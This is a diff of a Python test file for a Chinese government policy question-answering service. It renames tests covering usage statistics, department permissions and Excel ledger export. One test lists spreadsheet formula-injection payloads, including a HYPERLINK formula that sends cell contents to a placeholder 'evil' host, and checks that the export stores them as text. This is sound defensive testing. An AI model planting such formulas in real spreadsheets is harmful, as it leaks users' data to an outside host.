@@ -35,7 +35,7 @@ REFUSAL = "现有政策文件中没有找到这个问题的答案。"
 
 @dataclass(frozen=True)
 class Records:
-    """A journal, and what reads it."""
+    """A journal, and the parts that read it."""
 
     engine: Engine
     journal: Journal
@@ -80,10 +80,10 @@ class Records:
         department: str | None = None,
     ) -> list[dict]:
         """The rows of the ledger as Excel reads them."""
-        written = Ledger(self.engine, self.audit).write(staff, since, until, file, NOON, department)
+        row_count = Ledger(self.engine, self.audit).write(staff, since, until, file, NOON, department)
         rows = list(load_workbook(file).active.iter_rows(values_only=True))
         assert rows[0] == tuple(COLUMNS)
-        assert len(rows) == written + 1
+        assert len(rows) == row_count + 1
         return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
 
 
@@ -95,7 +95,7 @@ def records(tmp_path: Path, kb: KnowledgeBase) -> Records:
     return Records(engine, Journal(engine), Questions(engine, 7), queue, audit)
 
 
-def test_counted_by_hand(records: Records):
+def test_figures_equal_counts_made_by_hand(records: Records):
     helped = records.record("低保怎么申请？", took=50)
     records.journal.feedback(helped, True, None, None, NOON)
     records.record("低保怎麼申請", Ending.FAQ, took=70, departments=("区民政局", "区财政局"))
@@ -111,14 +111,14 @@ def test_counted_by_hand(records: Records):
     assert (total.asked, total.answered, total.refused, total.handed_over, total.closed) == (7, 3, 1, 2, 1)
     assert (total.helpful, total.unhelpful, total.helpful_share) == (1, 1, 0.5)
     assert (total.p50_ms, total.p95_ms) == (80.0, 125.0)  # of 5, 50, 70, 90, 110, 130
-    assert [(each.department, each.counts.asked) for each in figures.departments] == [
+    assert [(row.department, row.counts.asked) for row in figures.departments] == [
         ("区民政局", 5),
         ("（未归口）", 2),
         ("区财政局", 1),
     ]
     most = figures.most_asked[0]
     assert (most.text, most.times) == ("低保怎么申请？", 2)
-    assert {(each.text, each.asked) for each in figures.write_next} == {
+    assert {(group.text, group.asked) for group in figures.write_next} == {
         ("低保标准是多少？", 1),
         ("小学怎么报名？", 1),
         ("怎么办离婚登记？", 1),
@@ -126,26 +126,26 @@ def test_counted_by_hand(records: Records):
     }
 
 
-def test_days_are_days_in_china_and_none_is_left_out(records: Records):
+def test_figures_list_every_day_in_china_time(records: Records):
     midnight = datetime(2024, 5, 9, 16, 0, tzinfo=UTC)
     for at in (midnight - timedelta(seconds=1), midnight, midnight + timedelta(days=1)):
         records.record("低保怎么申请？", at=at)
     days = records.figures(since=date(2024, 5, 8), until=date(2024, 5, 11)).days
-    assert [(each.day.day, each.counts.asked) for each in days] == [(8, 0), (9, 1), (10, 1), (11, 1)]
+    assert [(day.day.day, day.counts.asked) for day in days] == [(8, 0), (9, 1), (10, 1), (11, 1)]
     assert records.figures().total.asked == 1
 
 
-def test_staff_see_what_concerns_their_departments(records: Records):
+def test_figures_of_staff_cover_their_departments_and_none(records: Records):
     records.record("低保怎么申请？", departments=("区民政局", "区财政局"))
     records.record("小学怎么报名？", departments=("区教体局",))
     records.record("你好", Ending.NO_HITS, departments=())
     figures = records.figures(WANG)
     assert figures.total.asked == 2
-    assert {each.department for each in figures.departments} == {"区民政局", "（未归口）"}
-    assert {each.text for each in figures.most_asked} == {"低保怎么申请？", "你好"}
+    assert {department.department for department in figures.departments} == {"区民政局", "（未归口）"}
+    assert {question.text for question in figures.most_asked} == {"低保怎么申请？", "你好"}
 
 
-def test_one_department_can_be_looked_at_alone(records: Records, tmp_path: Path):
+def test_figures_and_ledger_limited_to_one_department(records: Records, tmp_path: Path):
     records.record("低保怎么申请？", departments=("区民政局", "区财政局"))
     records.record("怎么办离婚登记？", Ending.NO_HITS)
     records.record("小学怎么报名？", Ending.NO_HITS, departments=("区教体局",))
@@ -154,9 +154,9 @@ def test_one_department_can_be_looked_at_alone(records: Records, tmp_path: Path)
     reader = FigureReader(records.engine, records.queue)
     figures = reader.figures(CENTRE, DAY, DAY, NOON, "区民政局")
     assert (figures.total.asked, figures.total.refused, figures.total.handed_over) == (3, 1, 1)
-    told = {"怎么办离婚登记？", "老年证怎么办理？"}
-    assert {each.text for each in figures.most_asked} == {"低保怎么申请？", *told}
-    assert {each.text for each in figures.write_next} == told
+    without_entry = {"怎么办离婚登记？", "老年证怎么办理？"}
+    assert {question.text for question in figures.most_asked} == {"低保怎么申请？", *without_entry}
+    assert {group.text for group in figures.write_next} == without_entry
     with pytest.raises(NotAllowedError, match="属于区教体局"):
         reader.figures(WANG, DAY, DAY, NOON, "区教体局")
     rows = records.ledger(tmp_path / "a.xlsx", department="区教体局")
@@ -165,7 +165,7 @@ def test_one_department_can_be_looked_at_alone(records: Records, tmp_path: Path)
         records.ledger(tmp_path / "b.xlsx", WANG, department="区教体局")
 
 
-def test_growing_words():
+def test_grown_sorts_words_by_significance_of_growth():
     once = ["小学报名要什么材料", "小学报名时间", "小学报名", "公租房"]
     times = [Times(text, 1, 1, 0) for text in once] + [Times("低保怎么申请", 11, 11, 10)]
     assert grown(times) == (
@@ -176,7 +176,7 @@ def test_growing_words():
     )
 
 
-def test_growth_is_that_of_the_last_thirty_days(records: Records):
+def test_growing_compares_last_thirty_days_with_thirty_before(records: Records):
     for days in (0, 10, 29, 30, 59, 60):
         records.record("小学报名", at=NOON - timedelta(days=days))
     assert Growing(word="小学", now=3, before=2) in records.figures().growing
@@ -187,16 +187,16 @@ def test_growth_is_that_of_the_last_thirty_days(records: Records):
     [(DAY + timedelta(days=1), "早于开始日期"), (DAY - timedelta(days=366), "最多 366 天")],
     ids=["backwards", "too long"],
 )
-def test_periods_that_make_no_sense(records: Records, tmp_path: Path, since: date, told: str):
+def test_invalid_period_is_refused(records: Records, tmp_path: Path, since: date, told: str):
     with pytest.raises(InputError, match=told):
         records.figures(since=since)
     with pytest.raises(InputError, match=told):
         records.ledger(tmp_path / "a.xlsx", since=since)
 
 
-def test_the_ledger_tells_what_came_of_each_question(records: Records, kb: KnowledgeBase, tmp_path: Path):
+def test_ledger_lists_outcome_of_each_question(records: Records, kb: KnowledgeBase, tmp_path: Path):
     document = kb.documents.summaries()[0]
-    with records.engine.begin() as connection, kb.documents._engine.connect() as source:
+    with records.engine.begin() as connection, kb.engine.connect() as source:
         row = source.execute(tables.documents.select().where(tables.documents.c.id == document.id)).mappings()
         connection.execute(insert(tables.documents).values(**row.one()))
     cited = Citation(
@@ -249,7 +249,7 @@ def test_the_ledger_tells_what_came_of_each_question(records: Records, kb: Knowl
 FORMULAS = ('=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "=1\x0b2\x00")
 
 
-def test_what_looks_like_a_formula_is_text(records: Records, tmp_path: Path):
+def test_ledger_writes_formulas_as_text(records: Records, tmp_path: Path):
     for formula in FORMULAS:
         records.record(formula, text=formula)
     file = tmp_path / "a.xlsx"
@@ -260,7 +260,7 @@ def test_what_looks_like_a_formula_is_text(records: Records, tmp_path: Path):
             assert (cell.data_type, cell.quotePrefix) == ("s", True)
 
 
-def test_who_takes_the_ledger_out_is_on_record(records: Records, tmp_path: Path):
+def test_ledger_export_needs_permission_and_is_audited(records: Records, tmp_path: Path):
     records.record("小学怎么报名？", departments=("区教体局",))
     records.record("低保怎么申请？")
     with pytest.raises(NotAllowedError, match="不能导出台账"):
@@ -297,14 +297,14 @@ def fill(engine: Engine, count: int) -> None:
 
 
 @pytest.mark.slow
-def test_a_hundred_thousand_rows(records: Records, tmp_path: Path):
+def test_ledger_and_figures_of_100_000_questions(records: Records, tmp_path: Path):
     fill(records.engine, 100_000)
     begun = perf_counter()
-    written = Ledger(records.engine, records.audit).write(
+    row_count = Ledger(records.engine, records.audit).write(
         CENTRE, DAY - timedelta(days=60), DAY, tmp_path / "a.xlsx", NOON
     )
     print(f"ledger {perf_counter() - begun:.1f} s")
-    assert written == 100_000
+    assert row_count == 100_000
     begun = perf_counter()
     figures = records.figures(since=DAY - timedelta(days=60))
     print(f"figures {perf_counter() - begun:.1f} s")
